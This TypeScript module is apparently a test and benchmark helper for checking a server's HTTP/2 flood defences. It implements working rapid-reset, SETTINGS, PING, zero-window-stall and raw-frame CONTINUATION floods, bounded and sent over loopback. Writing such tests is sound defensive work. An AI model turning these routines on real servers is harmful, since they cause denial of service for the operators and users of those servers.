// HTTP/2 floods from one loopback address, each bounded in count and time: what
// tests/integration/h2-flood.test.ts and bench/h2-flood.ts send at the server. Rapid reset,
// SETTINGS and PING floods and the zero-window stall go through Node's own HTTP/2 client (its
// limits on what it may send raised); a CONTINUATION flood is no request Node's client would
// send, so it is written as frames on a plain socket.
import http2 from 'node:http2';
import { connect } from 'node:net';
import { frame } from '../../wire/http2/build-frames.test-helper.ts';
import { CLIENT_PREFACE, errorCodeName, FRAME_HEADER_BYTES, readFrameHeader, readUint32 } from '../../wire/http2/frames.ts';

/** How a flooding session ended, as its client saw it. */
export interface FloodOutcome {
  /** the error code of the server's GOAWAY, by name (`ENHANCE_YOUR_CALM`); null: none came */
  goaway: string | null;
  /** the server closed the connection before the flood was over, or within `graceMs` of it */
  closed: boolean;
  /** what the client sent: streams opened, frames written */
  sent: number;
}

export interface FloodTarget {
  port: number;
  /** the client's own loopback address (127.0.0.0/8): the address the server's budgets count */
  localAddress: string;
}

const GOAWAY = 0x7;
const HEADERS = 0x1;
const CONTINUATION = 0x9;
const SETTINGS = 0x4;
const END_STREAM = 0x1;

/** An h2c session from `localAddress` (its own TCP connection, so the server counts that address). */
export function connectFrom(port: number, localAddress: string, options: http2.ClientSessionOptions = {}): http2.ClientHttp2Session {
  return http2.connect(`http://127.0.0.1:${port}`, { ...options, createConnection: () => connect({ host: '127.0.0.1', port, localAddress }) });
}

function connectSession(target: FloodTarget, settings: http2.Settings = {}): http2.ClientHttp2Session {
  // A flood's own client must not be what stops it (Node reads maxOutstandingSettings, its types do not name it).
  const unbounded: http2.ClientSessionOptions & { maxOutstandingSettings: number } = {
    settings,
    maxOutstandingPings: 1_000_000,
    maxOutstandingSettings: 1_000_000,
    maxSessionMemory: 1000,
    peerMaxConcurrentStreams: 1_000_000,
  };
  return connectFrom(target.port, target.localAddress, unbounded);
}

/** Resolves when the session is closed (by either side), with the server's GOAWAY code if one came. */
function watchSession(session: http2.ClientHttp2Session): { outcome: Promise<{ goaway: string | null }>; closed: () => boolean } {
  let goaway: string | null = null;
  let closed = false;
  session.on('goaway', (code: number) => {
    goaway = errorCodeName(code);
  });
  session.on('error', () => {});
  const outcome = new Promise<{ goaway: string | null }>((resolve) =>
    session.once('close', () => {
      closed = true;
      resolve({ goaway });
    }),
  );
  return { outcome, closed: () => closed };
}

const tick = () => new Promise<void>((resolve) => setImmediate(resolve));
const sleep = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms).unref());

/** Waits for the session to close, at most `ms`; then destroys it (a flood's client never lingers). */
async function endOf(session: http2.ClientHttp2Session, watched: ReturnType<typeof watchSession>, sent: number, ms: number): Promise<FloodOutcome> {
  const result = await Promise.race([watched.outcome, sleep(ms).then(() => null)]);
  const outcome: FloodOutcome = { goaway: result?.goaway ?? null, closed: watched.closed(), sent };
  session.destroy();
  return outcome;
}

/**
 * CVE-2023-44487: HEADERS, then RST_STREAM (CANCEL) at once, `streams` times in batches of
 * `batch` per turn of the event loop, as fast as the client goes; stops early once the server
 * closes the session.
 */
export async function rapidReset(target: FloodTarget, options: { streams: number; batch?: number; path?: string; graceMs?: number }): Promise<FloodOutcome> {
  const session = connectSession(target);
  const watched = watchSession(session);
  const batch = options.batch ?? 50;
  let sent = 0;
  while (sent < options.streams && !watched.closed() && !session.destroyed) {
    for (let i = 0; i < batch && sent < options.streams && !session.closed && !session.destroyed; i++) {
      try {
        const stream = session.request({ ':path': options.path ?? '/api/v1/users/1' }, { endStream: true });
        stream.on('error', () => {});
        stream.close(http2.constants.NGHTTP2_CANCEL);
        sent++;
      } catch {
        break;
      }
    }
    await tick();
  }
  return endOf(session, watched, sent, options.graceMs ?? 2000);
}

/** SETTINGS frames (each one the server must acknowledge), `frames` of them in batches per turn. */
export async function settingsFlood(target: FloodTarget, options: { frames: number; batch?: number; graceMs?: number }): Promise<FloodOutcome> {
  const session = connectSession(target);
  const watched = watchSession(session);
  await new Promise<void>((resolve) => session.once('connect', () => resolve()));
  let sent = 0;
  while (sent < options.frames && !watched.closed() && !session.destroyed) {
    for (let i = 0; i < (options.batch ?? 50) && sent < options.frames && !session.destroyed; i++) {
      try {
        session.settings({ enablePush: false });
        sent++;
      } catch {
        break;
      }
    }
    await tick();
  }
  return endOf(session, watched, sent, options.graceMs ?? 2000);
}

/** PING frames (each one the server must answer), `frames` of them in batches per turn. */
export async function pingFlood(target: FloodTarget, options: { frames: number; batch?: number; graceMs?: number }): Promise<FloodOutcome> {
  const session = connectSession(target);
  const watched = watchSession(session);
  await new Promise<void>((resolve) => session.once('connect', () => resolve()));
  let sent = 0;
  while (sent < options.frames && !watched.closed() && !session.destroyed) {
    for (let i = 0; i < (options.batch ?? 50) && sent < options.frames && !session.destroyed; i++) {
      if (!session.ping(() => {})) break;
      sent++;
    }
    await tick();
  }
  return endOf(session, watched, sent, options.graceMs ?? 2000);
}

/**
 * A zero-window stall: the client's SETTINGS give every stream a window of 0 bytes and it never
 * sends WINDOW_UPDATE, so no response body can go out; it opens `streams` requests for `path`
 * and waits up to `waitMs` for the server to give up on it.
 */
export async function zeroWindowStall(target: FloodTarget, options: { streams: number; path: string; waitMs: number }): Promise<FloodOutcome> {
  const session = connectSession(target, { initialWindowSize: 0 });
  const watched = watchSession(session);
  let sent = 0;
  for (; sent < options.streams && !session.destroyed; sent++) {
    const stream = session.request({ ':path': options.path }, { endStream: true });
    stream.on('error', () => {});
    // never read: Node's client would otherwise open the window as the page reads
    stream.pause();
  }
  return endOf(session, watched, sent, options.waitMs);
}

/**
 * CVE-2024-27983 family: one HEADERS frame without END_HEADERS, then CONTINUATION frames
 * (each carrying one more header field, never END_HEADERS) until `frames` are sent or the server
 * closes the connection. Written as frames on a plain socket: Node's client sends no such thing.
 */
export function continuationFlood(target: FloodTarget, options: { frames: number; graceMs?: number }): Promise<FloodOutcome> {
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port: target.port, localAddress: target.localAddress });
    let goaway: string | null = null;
    let closed = false;
    let sent = 0;
    let received = Buffer.alloc(0);
    const finish = () => {
      socket.destroy();
      resolve({ goaway, closed, sent });
    };
    socket.on('data', (chunk: Buffer) => {
      received = Buffer.concat([received, chunk]);
      while (received.length >= FRAME_HEADER_BYTES) {
        const header = readFrameHeader(received, 0);
        if (received.length < FRAME_HEADER_BYTES + header.length) break;
        if (header.type === GOAWAY) goaway = errorCodeName(readUint32(received, FRAME_HEADER_BYTES + 4));
        received = received.subarray(FRAME_HEADER_BYTES + header.length);
      }
    });
    socket.on('error', () => {});
    socket.on('close', () => {
      closed = true;
      finish();
    });
    socket.once('connect', async () => {
      socket.write(CLIENT_PREFACE);
      socket.write(Uint8Array.from(frame(SETTINGS, 0, 0, [])));
      // :method GET, :scheme http, :path /, :authority 127.0.0.1 (indexed and literal, no Huffman)
      const authority = [...Buffer.from('127.0.0.1')];
      socket.write(Uint8Array.from(frame(HEADERS, END_STREAM, 1, [0x82, 0x86, 0x84, 0x41, authority.length, ...authority])));
      // each CONTINUATION: a literal header field without indexing, "x-flood: a"
      const field = [0x00, 7, ...Buffer.from('x-flood'), 1, 0x61];
      while (sent < options.frames && !closed) {
        for (let i = 0; i < 100 && sent < options.frames; i++, sent++) socket.write(Uint8Array.from(frame(CONTINUATION, 0, 1, field)));
        await tick();
      }
      await sleep(options.graceMs ?? 2000);
      finish();
    });
  });
}
